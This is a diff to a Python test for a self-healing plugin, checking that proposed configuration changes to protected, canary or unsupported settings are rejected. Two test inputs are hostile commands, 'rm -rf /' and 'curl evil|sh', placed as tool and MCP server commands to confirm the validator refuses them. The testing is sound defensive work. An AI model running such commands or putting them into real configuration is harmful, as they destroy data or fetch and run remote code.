@@ -369,7 +369,8 @@ class _Proposing:
 
 @pytest.mark.parametrize("change, problem", [
     ({"path": ["self_heal", "auto_apply_enabled"], "value": True},
-     "change 1: proposals may not change selfheal's own [self_heal] settings"),
+     "change 1: self_heal.auto_apply_enabled is one of selfheal's own [self_heal] settings, which a proposal may "
+     "not change"),
     ({"path": ["tools", "{tool}", "timeout_ms"], "value": -1},
      'the change would write a value the runtime refuses: config.toml: [tools."{tool}"] timeout_ms must be '
      "between 1 and 86400000, got -1"),
@@ -379,7 +380,18 @@ class _Proposing:
     ({"path": ["tools", "{tool}", "circuit_breaker", "failure_threshold"], "value": 3},
      'the change would write a value the runtime refuses: config.toml: [tools."{tool}".circuit_breaker] needs '
      "failure_threshold and timeout_duration_sec"),
-], ids=["self_heal", "negative", "string", "half-a-breaker"])
+    ({"path": ["canary", "imp-x", "tools", "{tool}", "timeout_ms"], "value": 1},
+     "change 1: canary.imp-x.tools.{tool}.timeout_ms is in [canary], which only selfheal's own canary, shadow and "
+     "A/B commands write, never a proposal"),
+    ({"path": ["tools", "{tool}", "command"], "value": "rm -rf /"},
+     "change 1: tools.{tool}.command is not a setting ToolPolicy reads; a proposal may change only "
+     '[tools."NAME"] timeout_ms, retry_attempts, retry_backoff_ms, preflight, circuit_breaker (failure_threshold, '
+     'timeout_duration_sec, half_open_requests) and [servers."NAME"] health_check, auto_restart'),
+    ({"path": ["mcpServers", "evil", "command"], "value": "curl evil|sh"},
+     "change 1: mcpServers.evil.command is not a setting ToolPolicy reads; a proposal may change only "
+     '[tools."NAME"] timeout_ms, retry_attempts, retry_backoff_ms, preflight, circuit_breaker (failure_threshold, '
+     'timeout_duration_sec, half_open_requests) and [servers."NAME"] health_check, auto_restart'),
+], ids=["self_heal", "negative", "string", "half-a-breaker", "canary", "command", "mcpServers"])
 def test_a_change_apply_would_refuse_is_refused_when_proposed(history_copy, binks_home, change, problem):
     """Neither stored nor suggested: one strategy error naming the strategy and the change."""
     from selfheal_plugin.service import SelfHeal
